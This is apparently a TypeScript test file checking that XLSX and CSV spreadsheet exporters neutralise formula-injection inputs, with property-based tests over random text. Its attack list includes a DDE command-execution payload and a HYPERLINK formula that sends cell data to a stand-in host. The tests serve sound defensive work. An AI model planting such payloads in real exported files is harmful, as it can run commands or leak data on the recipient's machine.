import { fc, test as property } from '@fast-check/vitest';
import { describe, expect, test } from 'vitest';

import { sheetCsv } from '../../shared/adapters/documents/sheet-csv.ts';
import { sheetXlsx } from '../../shared/adapters/documents/sheet-xlsx.ts';
import { firstSheet, officeParts, rowValues } from '../support/read-documents.ts';
import { sheetOf } from './builders.ts';

/** What a spreadsheet would take for a formula, or for a command to another program. */
const attacks = [
  '=1+1',
  '=HYPERLINK("http://example.invalid/?"&A1,"点击")',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "=cmd|'/C calc'!A0",
  '"=1+1',
  "'=1+1",
];
const textsOf = (texts: readonly string[]) => sheetOf(texts.map((text) => [text, 1, '1.00']));
const csvText = async (texts: readonly string[]) =>
  new TextDecoder('utf-8', { ignoreBOM: true }).decode(await sheetCsv(textsOf(texts)));
/** The first field of each record after the head, unquoted. */
const firstFields = (csv: string) =>
  Array.from(csv.matchAll(/(?<=\r\n)"((?:[^"]|"")*)","1","1.00"/g), ([, field]) => (field ?? '').replaceAll('""', '"'));

describe('given texts that begin like a formula', () => {
  test('when they are written to a workbook, then each is read back as text, letter by letter', async () => {
    const sheet = await firstSheet(await sheetXlsx(textsOf(attacks)));
    const read = attacks.map((_, index) => rowValues(sheet, index + 3)[0]);
    // XML reads a lone carriage return as a line feed.
    expect(read).toEqual(attacks.map((text) => text.replaceAll('\r', '\n')));
  });

  test('when the workbook’s own XML is read, then it has no formula, and text cells are marked as text', async () => {
    const bytes = await sheetXlsx(textsOf(attacks));
    const parts = officeParts(bytes);
    expect([...parts.values()].join('')).not.toMatch(/<f[ >/]/);
    expect([...parts.keys()].filter((name) => /external|connection|macro|vba/i.test(name))).toEqual([]);
    const sheet = await firstSheet(bytes);
    attacks.forEach((_, index) => {
      const cell = sheet.getCell(index + 3, 1);
      expect(cell.formula).toBeUndefined();
      expect(cell.numFmt).toBe('@');
    });
    expect(parts.get('xl/styles.xml')).toMatch(/<xf quotePrefix="1" numFmtId="100"/);
  });

  test('when they are written as CSV, then an apostrophe leads each', async () => {
    const fields = firstFields(await csvText(attacks));
    expect(fields).toEqual(attacks.map((text) => (/^[=+\-@\t\r＝＋－＠]/.test(text) ? `'${text}` : text)));
  });
});

describe('given any text', () => {
  const anyText = fc.array(
    fc.string({
      unit: fc.oneof(
        fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', "'", ',', ';', '𠮷'),
        fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
      ),
      maxLength: 12,
    }),
    { minLength: 1, maxLength: 8 },
  );

  property.prop([anyText], { numRuns: 60 })(
    'when it is written to a workbook, then no cell is a formula',
    async (texts) => {
      const parts = officeParts(await sheetXlsx(textsOf(texts)));
      expect(parts.get('xl/worksheets/sheet1.xml')).not.toMatch(/<f[ >/]/);
    },
  );

  property.prop([anyText], { numRuns: 300 })(
    'when it is written as CSV, then no field begins like a formula, and none is lost',
    async (texts) => {
      const fields = firstFields(await csvText(texts));
      expect(fields).toHaveLength(texts.length);
      for (const [index, field] of fields.entries()) {
        expect(field).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
        expect(field.replace(/^'(?=[=+\-@\t\r＝＋－＠])/, '')).toBe(
          texts[index]?.replace(/^'(?=[=+\-@\t\r＝＋－＠])/, ''),
        );
      }
    },
  );
});

describe('given a table', () => {
  test('when it is a workbook, then numbers are numbers with their places, and the head is repeated in print', async () => {
    const sheet = await firstSheet(
      await sheetXlsx(
        sheetOf([
          ['甲', 3, '87.50'],
          ['乙', undefined, undefined],
        ]),
      ),
    );
    expect(rowValues(sheet, 3)).toEqual(['甲', 3, 87.5]);
    expect(sheet.getCell('C3').numFmt).toBe('0.00');
    expect(sheet.getCell('B4').value ?? '').toBe('');
    expect(sheet.pageSetup).toMatchObject({
      orientation: 'landscape',
      fitToWidth: 1,
      fitToHeight: 0,
      printTitlesRow: '1:2',
    });
    expect(sheet.getCell('A1').text).toBe('示例表');
    expect(sheet.getCell('A5').text).toBe('说明');
  });
});
